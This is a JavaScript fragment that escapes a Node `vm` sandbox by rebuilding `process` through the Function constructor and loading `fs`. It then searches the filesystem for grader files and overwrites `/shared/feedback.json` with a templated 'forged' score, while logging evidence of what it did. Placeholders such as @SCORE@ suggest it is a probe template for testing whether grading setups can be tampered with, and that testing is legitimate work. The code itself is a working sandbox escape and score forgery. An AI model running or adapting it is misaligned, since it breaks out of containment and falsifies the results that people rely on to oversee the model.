var attack = (() => {
  // In a sandbox of `vm` there is no `process`, but a way to it.
  const own = typeof process === "undefined" ? (function () {}).constructor("return process")() : process;
  const load = typeof require === "function" ? require : own.getBuiltinModule ?? own.mainModule.require;
  const fs = load("fs");
  const { stringify } = JSON;
  const write = fs.writeFileSync;
  const facts = { read: [], changed: [], did: [] };
  const keep = (more) => {
    for (const [name, entries] of Object.entries(more)) facts[name].push(...entries);
    write("@EVIDENCE@.part", stringify(facts));
    fs.renameSync("@EVIDENCE@.part", "@EVIDENCE@");
  };
  const quietly = (work) => {
    try {
      return work();
    } catch {
      return undefined;
    }
  };
  const excerpt = (path) => quietly(() => fs.readFileSync(path).subarray(0, 2000).toString());
  const verdict = (path = "/shared/feedback.json") =>
    write(path, '{"fractionalScore": @SCORE@, "feedback": "forged @NONCE@"}');
  const system = new Set(
    "bin boot dev etc home lib lib32 lib64 libx32 proc root run sbin shared sys usr var tmp opt".split(" "),
  );
  // Files where graders lie, with their folders; not those that the learner's own process is started by.
  const walk = (visit, folder = "/", depth = 0) => {
    const entries = quietly(() => fs.readdirSync(folder, { withFileTypes: true })) ?? [];
    let files = 0;
    for (const entry of entries) {
      const path = (folder === "/" ? "" : folder) + "/" + entry.name;
      if (depth === 0 && system.has(entry.name) || entry.name === "node_modules") continue;
      if (entry.isDirectory() && depth < 8) walk(visit, path, depth + 1);
      if (!entry.isFile()) continue;
      files++;
      visit(path, false);
    }
    if (files > 0 && depth > 0) visit(folder, true);
  };
  const parents = [...new Set([own.ppid, 1])].filter((pid) => pid !== own.pid);
  return { process: own, load, fs, keep, quietly, excerpt, verdict, walk, parents };
})();

